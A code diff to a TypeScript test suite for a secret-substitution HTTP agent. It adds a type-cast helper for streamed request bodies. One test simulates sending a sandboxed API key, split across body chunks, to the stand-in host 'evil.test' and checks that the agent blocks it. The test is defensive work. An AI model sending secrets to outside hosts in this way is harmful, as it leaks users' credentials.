@@ -4,6 +4,7 @@
  * host it is not allowed for, travelled without TLS, or came back to the sandbox.
  */
 import { SecretgateAgent, SubstitutionBlocked, UnsafeSubstitution, Interceptor } from "@secretgate/undici"
+import type { Readable } from "node:stream"
 import { inspect } from "node:util"
 import { Agent, fetch as undiciFetch, interceptors, request } from "undici"
 import { afterAll, beforeAll, describe, expect, it } from "vitest"
@@ -22,6 +23,9 @@ const VALUE = "sk-live-9d8f7a6s5d4f"
 const receivedBy = (host: string) => world.https.received.filter((r) => r.host?.split(":")[0] === host)
 const sawValue = (host: string, value = VALUE) =>
   receivedBy(host).some((r) => `${r.url}\n${r.rawHeaders.join("\n")}\n${r.body.toString("latin1")}`.includes(value))
+
+/** undici accepts async iterables as bodies; its types only list Readable. */
+const streamed = (body: AsyncIterable<Buffer>) => body as unknown as Readable
 
 const get = async (url: string, agent: SecretgateAgent | Agent, headers: Record<string, string> = {}, extra: object = {}) => {
   const response = await request(url, { headers, dispatcher: agent, ...extra })
@@ -209,10 +213,10 @@ describe("bodies", () => {
     for (let split = 1; split < text.length; split++) {
       await (await request(world.https.url("api.allowed.test", "/"), {
         method: "POST",
-        body: (async function*() {
+        body: streamed((async function*() {
           yield Buffer.from(text.slice(0, split))
           yield Buffer.from(text.slice(split))
-        })(),
+        })()),
         dispatcher: box.agent
       })).body.text()
       expect([split, last(world.https).body.toString()]).toEqual([split, `a=${VALUE}&b=1`])
@@ -238,7 +242,7 @@ describe("bodies", () => {
         }
       }
     }
-    const response = await request(world.https.url("api.allowed.test", "/"), { method: "POST", body: source(), dispatcher: box.agent })
+    const response = await request(world.https.url("api.allowed.test", "/"), { method: "POST", body: streamed(source()), dispatcher: box.agent })
     await response.body.text()
     const received = world.https.received[before]!
     expect(received.chunked).toBe(true)
@@ -367,10 +371,10 @@ describe("values that must not be sent", () => {
     const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] }, { onDisallowed: "block" })
     const error = await request(world.https.url("evil.test", "/"), {
       method: "POST",
-      body: (async function*() {
+      body: streamed((async function*() {
         yield Buffer.from("harmless prefix;")
         yield Buffer.from(`k=${box.env.KEY}`)
-      })(),
+      })()),
       dispatcher: box.agent
     }).then(() => undefined, (e: unknown) => e)
     expect(error).toBeInstanceOf(SubstitutionBlocked)
